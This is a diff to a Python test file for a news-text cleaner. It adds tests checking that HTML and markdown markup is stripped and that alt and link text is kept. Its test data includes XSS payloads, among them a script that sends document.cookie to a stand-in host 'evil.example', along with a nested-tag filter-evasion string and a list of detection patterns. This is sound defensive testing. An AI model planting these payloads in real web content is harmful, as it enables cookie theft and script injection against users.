@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import re
 from pathlib import Path
 
 import pytest
@@ -84,7 +85,10 @@ def test_collapse_whitespace() -> None:
 
 
 def test_clean_text_full_order_and_report() -> None:
-    raw = "\ufeff[ad_1]\r\n  Title  \r\n\r\n\r\n\r\nBody\u200b text \ufefb.  \r\n[ad_2]\r\nSource: AP \r\n"
+    raw = (
+        "\ufeff[ad_1]\r\n  Title  \r\n\r\n\r\n\r\n"
+        "Body\u200b <b>text</b> \ufefb.  \r\n[ad_2]\r\nSource: AP \r\n"
+    )
     cleaned = clean_text(raw)
     assert cleaned.text == "Title\n\nBody text لا."
     assert cleaned.source_name == "AP"
@@ -93,6 +97,7 @@ def test_clean_text_full_order_and_report() -> None:
         "normalize_nfkc",
         "remove_invisible",
         "normalize_newlines",
+        "remove_markup",
         "remove_ad_markers",
         "remove_source_footer",
         "strip_lines",
@@ -126,3 +131,50 @@ def test_sample_article() -> None:
     assert cleaned.source_name is None
     assert "remove_ad_markers" in cleaned.rules_applied
     assert "remove_source_footer" in cleaned.rules_applied
+
+
+HOSTILE = {
+    "beacon": "![](https://tracker.example/p.gif?x=1)",
+    "img": "<img src=x onerror=alert(1)>",
+    "iframe": '<iframe src="https://evil.example/"></iframe>',
+    "script": "<script>fetch('https://evil.example/?c='+document.cookie)</script>",
+}
+
+
+def _live(text: str) -> list[str]:
+    """The live markup left in ``text`` (what must never reach an API client)."""
+    lowered = text.lower()
+    found = [m for m in ("<script", "<iframe", "onerror=", "<img") if m in lowered]
+    if re.search(r"!\[[^\]]*\]\(", text):
+        found.append("markdown image")
+    return found
+
+
+@pytest.mark.parametrize("kind", sorted(HOSTILE))
+@pytest.mark.parametrize(
+    "before, after",
+    [
+        ("صادق البرلمان على الميزانية ", " بأغلبية 80 صوتا."),
+        ("Parliament approved the budget ", " by 80 votes."),
+    ],
+)
+def test_live_markup_is_removed_and_the_facts_kept(kind: str, before: str, after: str) -> None:
+    cleaned = clean_text(f"{before}{HOSTILE[kind]}{after}").text
+    assert _live(cleaned) == [], cleaned
+    assert cleaned == f"{before}{after}".replace("  ", " ").strip()
+    assert "remove_markup" in clean_text(f"{before}{HOSTILE[kind]}{after}").rules_applied
+
+
+def test_alt_text_and_link_text_stay() -> None:
+    raw = (
+        'Map: ![خريطة غزة](https://cdn.example/map.png "map") and <img alt="the harbour" src=h.jpg>. '
+        "Read [the full report](https://example.com/r_(2024)) or <a href='https://e.example'>this</a>."
+    )
+    assert clean_text(raw).text == ("Map: خريطة غزة and the harbour. Read the full report or this.")
+
+
+def test_escaped_markup_cannot_come_back_live_and_plain_text_is_untouched() -> None:
+    sneaky = "&lt;script&gt;alert(1)&lt;/script&gt; <b>bold</b> <scr<script>x</script>ipt>go()</script>"
+    assert _live(clean_text(sneaky).text) == []
+    plain = "AT&amp;T rose 3% as 3 < 5 and x > 2; see [1] and [a] (b)."
+    assert clean_text(plain).text == plain and clean_text(plain).rules_applied == ()
